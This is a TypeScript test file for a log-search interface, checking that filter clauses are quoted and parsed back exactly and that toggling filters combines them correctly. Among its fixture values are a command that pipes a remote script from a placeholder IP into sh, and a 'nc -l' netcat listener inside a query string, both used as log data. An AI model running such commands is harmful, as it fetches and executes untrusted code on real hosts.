// Filters as query text: what the interface writes, the server's parser must read as meant.
import { deepEqual, equal, ok } from 'node:assert/strict'
import { test } from 'node:test'
import fc from 'fast-check'
import { findField } from '../../../src/query/fields.ts'
import { parseQuery } from '../../../src/query/parse.ts'
import { clause, toggleClause } from '../../../web/src/search/clause.ts'

test('plain words stay bare, everything else is quoted', () => {
  const f = (field: string, value: string | number, want: string) => equal(clause(field, value), want)
  f('host', 'web01', 'host:web01')
  f('source.ip', '203.0.113.9', 'source.ip:203.0.113.9')
  f('process.pid', 812, 'process.pid:812')
  f('user.name', 'null', 'user.name:"null"')
  f('user.name', 'OR', 'user.name:"OR"')
  f('app', 'a b', 'app:"a b"')
  f('process.command_line', 'echo "x" \\ *', 'process.command_line:"echo \\"x\\" \\\\ \\*"')
  f('source.ip', '2001:db8::1', 'source.ip:"2001:db8::1"')
  f('app', '', 'app:""')
})

const awkward = fc.oneof(
  fc.constantFrom('*', '?', '"', '\\', ' ', ':', '(', ')', '-', '/'),
  fc.string({ unit: 'grapheme', minLength: 1, maxLength: 3 }),
)

test('the parser takes every clause of a keyword field as that very value', () => {
  fc.assert(
    fc.property(fc.string({ unit: awkward, minLength: 1, maxLength: 40 }), value => {
      const parsed = parseQuery(clause('user.name', value))
      ok('query' in parsed, JSON.stringify(parsed))
      ok(parsed.query.kind === 'test' && parsed.query.field === 'user.name' && parsed.query.test.op === 'glob')
      equal(parsed.query.test.glob.join(''), value)
    }),
  )
})

test('clauses of all kinds of fields that facets and records offer are accepted', () => {
  for (const [field, value] of [
    ['severity', 'warning'],
    ['facility', 'authpriv'],
    ['peer', '2001:db8::7'],
    ['source.ip', '203.0.113.9'],
    ['process.exit_code', '0'],
    ['process.command_line', 'curl -s http://198.51.100.7/x.sh | sh'],
    ['sd.ex@32473.k', 'v "quoted"'],
    ['transport', 'tcp'],
    ['host', '*'],
  ] as const) {
    ok(findField(field), field)
    const parsed = parseQuery(clause(field, value))
    ok('query' in parsed, `${clause(field, value)}: ${JSON.stringify(parsed)}`)
  }
})

test('toggleClause adds, takes out, and replaces the opposite', () => {
  const f = (query: string, added: string, want: string, hasOr = false) =>
    equal(toggleClause(query, added, hasOr), want, query)
  f('', 'host:a', 'host:a')
  f('*', 'host:a', 'host:a')
  f('failed', 'host:a', 'failed host:a')
  f('failed host:a', 'host:a', 'failed')
  f('host:a', '-host:a', '-host:a')
  f('failed -host:a', 'host:a', 'failed host:a')
  f('x OR y', 'host:a', '(x OR y) host:a', true)
  f('app:"a b" x', 'app:"a b"', 'x')
  f('app:"a \\" b" x', 'app:"a \\" b"', 'x')
  f('(a host:b) c', 'host:b', '(a host:b) c host:b')
})

test('an added filter means AND, whatever the query was', () => {
  for (const query of ['x', 'x y', 'x OR y', 'NOT x', '(x OR y)', 'cmd:"nc -l" OR user:bob']) {
    const before = parseQuery(query)
    ok('query' in before)
    const after = parseQuery(toggleClause(query, 'host:web01', before.query.kind === 'or'))
    const filter = parseQuery('host:web01')
    ok('query' in after && 'query' in filter && after.query.kind === 'and', query)
    deepEqual(after.query.of.at(-1), filter.query)
  }
})
